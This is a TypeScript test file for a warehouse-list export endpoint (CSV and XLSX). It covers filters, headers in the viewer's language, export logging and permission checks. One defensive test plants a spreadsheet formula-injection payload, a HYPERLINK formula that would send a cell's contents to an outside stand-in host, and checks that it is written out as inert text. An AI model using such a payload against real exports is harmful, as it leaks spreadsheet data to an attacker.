// A list exports server-side with its filters and sort, every row, as CSV and XLSX,
// columns and labels from the manifest in the viewer's language, only for holders of the export
// button, and every export is logged. Run on a file database, so the export reads from its own
// snapshot connection as it does in production; with TEST_ENGINE=pg on PostgreSQL (its cursor).
import ExcelJS from "exceljs";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../../app";
import { contract } from "../../generated/contract.gen";
import { call, envelope, login } from "../../test-fixtures/test-app";
import { testDatabase, testEngine } from "../../test-fixtures/test-database";

let app: FastifyInstance;
let dir: string;
let admin: string;
let editor: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "export-"));
  app = await buildApp({
    contract,
    dbFile: testEngine() === "postgres" ? await testDatabase() : join(dir, "export.db"),
    seedAnchor: "2024-06-01",
    seedScale: 0.5,
    clock: () => Date.parse("2024-06-01T08:00:00Z"),
    docs: false,
  });
  await app.ready();
  admin = await login(app, "admin");
  editor = await login(app, "editor");
});
afterAll(async () => {
  await app.close();
  rmSync(dir, { recursive: true, force: true });
});

const exported = (token: string, query: Record<string, string>) =>
  call(app, { url: "/api/base/warehouses/export", token, query });
const store = () => app.consoleContext.store;

describe("GET /api/base/warehouses/export", () => {
  it("streams every row of the filtered, sorted list as CSV, headed in the viewer's language", async () => {
    const response = await exported(admin, { format: "csv", lang: "en", status: "enabled", sort: "-id" });
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(String(response.headers["content-disposition"])).toMatch(
      /^attachment; filename\*=UTF-8''Warehouses-2024-06-01\.csv$/,
    );
    // A byte-order mark first, so Excel reads the file as UTF-8; then one header row.
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse(response.body, { bom: true });
    const ids = await store().all<{ id: number; warehouse_name: string }>(
      `SELECT id, warehouse_name FROM warehouses WHERE status = 'enabled' ORDER BY id DESC`,
    );
    expect(ids.length).toBeGreaterThan(1);
    expect(response.headers["x-total-count"]).toBe(String(ids.length));
    expect(rows.length).toBe(ids.length + 1);
    const header = rows[0];
    expect(header).toContain("Status");
    const statusColumn = header.indexOf("Status");
    expect(new Set(rows.slice(1).map((row) => row[statusColumn]))).toEqual(new Set(["Enabled"]));
    const nameColumn = header.findIndex((label) => /name/i.test(label));
    expect(rows.slice(1).map((row) => row[nameColumn])).toEqual(ids.map((row) => row.warehouse_name));
  });

  it("writes the same rows as XLSX, headed in Chinese by default", async () => {
    const response = await exported(admin, { format: "xlsx" });
    expect(response.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as never);
    const sheet = workbook.worksheets[0];
    const total = (await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM warehouses`))!.n;
    expect(sheet.rowCount).toBe(total + 1);
    expect(sheet.getRow(1).values).toContain("状态");
    // The same cells as the CSV of the same list (numbers keep their type: xlsx-writer.test.ts).
    const csv = parse((await exported(admin, { format: "csv" })).body, { bom: true });
    const xlsx = Array.from({ length: sheet.rowCount }, (_, n) =>
      Array.from({ length: csv[0].length }, (_, column) => sheet.getRow(n + 1).getCell(column + 1).value ?? ""),
    );
    expect(xlsx.map((row) => row.map(String))).toEqual(csv);
  });

  it("logs who exported which list with which filters, and how many rows", async () => {
    const before = (await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n;
    await exported(admin, { format: "csv", status: "disabled" });
    const log = (await store().get<Record<string, unknown>>(`SELECT * FROM _list_exports ORDER BY id DESC LIMIT 1`))!;
    const disabled = (await store().get<{ n: number }>(
      `SELECT COUNT(*) AS n FROM warehouses WHERE status = 'disabled'`,
    ))!.n;
    expect((await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n).toBe(before + 1);
    expect(log).toMatchObject({ resource: "warehouses", format: "csv", rows: disabled, status: "done" });
    expect(JSON.parse(log.query as string)).toEqual({ status: "disabled" });
  });

  it("refuses a user who may read the list but holds no export button, and logs nothing", async () => {
    const before = (await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n;
    const body = envelope(await exported(editor, { format: "csv" }));
    expect(body.status_code).toBe(403);
    expect(body.message).toContain("store_export");
    expect((await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n).toBe(before);
  });

  it("writes a formula-looking cell as text in CSV and as a string cell in XLSX; a negative number stays as it is", async () => {
    const [first, second] = await store().all<{ id: number; warehouse_name: string }>(
      "SELECT id, warehouse_name FROM warehouses ORDER BY id LIMIT 2",
    );
    const formula = '=HYPERLINK("http://example.com/?x="&A1,"click")';
    const rename = async (id: number, name: string) =>
      await store().run("UPDATE warehouses SET warehouse_name = ? WHERE id = ?", [name, id]);
    await rename(first.id, formula);
    await rename(second.id, "-12.5");
    try {
      const csv = parse((await exported(admin, { format: "csv", lang: "en", sort: "id" })).body, {
        bom: true,
      });
      const nameColumn = csv[0].findIndex((label) => /name/i.test(label));
      expect(csv[1][nameColumn]).toBe(`'${formula}`);
      expect(csv[2][nameColumn]).toBe("-12.5");
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await exported(admin, { format: "xlsx", sort: "id" })).rawPayload as never);
      const cell = workbook.worksheets[0].getRow(2).getCell(nameColumn + 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(formula);
    } finally {
      await rename(first.id, first.warehouse_name);
      await rename(second.id, second.warehouse_name);
    }
  });

  it.each([
    [{ format: "pdf" }, "format"],
    [{ lang: "fr" }, "lang"],
    [{ page: "2" }, "page"],
    [{ sort: "no_such_field" }, "sort"],
  ])("answers a bad query %j with a 400 envelope naming %s", async (query, name) => {
    const body = envelope(await exported(admin, query));
    expect(body.status_code).toBe(400);
    expect(body.message).toContain(name);
  });
});
